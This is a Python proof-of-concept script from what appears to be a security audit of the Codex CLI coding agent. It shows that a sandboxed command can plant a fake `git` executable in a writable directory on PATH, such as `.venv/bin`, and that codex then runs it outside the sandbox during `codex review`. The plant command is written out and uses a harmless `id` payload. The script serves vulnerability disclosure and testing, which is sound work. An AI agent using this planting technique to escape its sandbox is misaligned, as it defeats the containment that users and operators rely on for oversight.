#!/usr/bin/env python3
"""Finding 03: codex runs `git` (review, /diff, /review, branch picker) and MCP/hook commands
by a PATH lookup, outside the sandbox.  When PATH holds a directory inside a writable root
(an activated project venv `.venv/bin`, `node_modules/.bin`, `./bin`, a relative entry), a
sandboxed command can drop a `git` there; codex's next unsandboxed `git` runs it.

Run as: python3 docs/attack-pass/03-path-planted-git.py   (exit 1 = vulnerable)"""
import os
import shutil
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import CODEX, ModelServer, Turn, run_model, shell  # noqa: E402

base = tempfile.mkdtemp(prefix="f03-")
ws, home = os.path.join(base, "ws"), os.path.join(base, "home")
os.makedirs(os.path.join(ws, ".venv", "bin"))
os.makedirs(home)
subprocess.run("git init -q && echo a > a && git add a && git -c user.name=u -c user.email=u@x commit -qm i && echo b >> a",
               shell=True, cwd=ws, check=True)
marker = os.path.join(base, "PWNED-outside-sandbox")
env = {"PATH": os.path.join(ws, ".venv", "bin") + ":" + os.environ["PATH"], "VIRTUAL_ENV": os.path.join(ws, ".venv")}
plant = ("printf '#!/bin/sh\\nid > %s\\nexec /usr/bin/git \"$@\"\\n' > .venv/bin/git && chmod +x .venv/bin/git && echo planted"
         % marker)
proc, outs = run_model([shell(plant), Turn().text("done")], ws, home, env=env)
print("first run:", outs)
assert not os.path.exists(marker)
with ModelServer() as server:
    server.enqueue(Turn().text('{"findings": [], "overall_correctness": "patch is correct", '
                               '"overall_explanation": "ok", "overall_confidence_score": 0.5}'))
    subprocess.run([CODEX, "review", "--uncommitted", "-C", ws, "-c", 'model_provider="mock"',
                    "-c", 'model_providers.mock.base_url="%s"' % server.url, "-c", 'model_providers.mock.env_key="K"'],
                   env=dict(os.environ, K="k", CODEX_HOME=home, **env), stdin=subprocess.DEVNULL, capture_output=True,
                   timeout=120)
if os.path.exists(marker):
    print("VULNERABLE: codex ran the planted git outside the sandbox:", open(marker).read().strip())
    shutil.rmtree(base, ignore_errors=True)
    sys.exit(1)
print("not reproduced")
shutil.rmtree(base, ignore_errors=True)
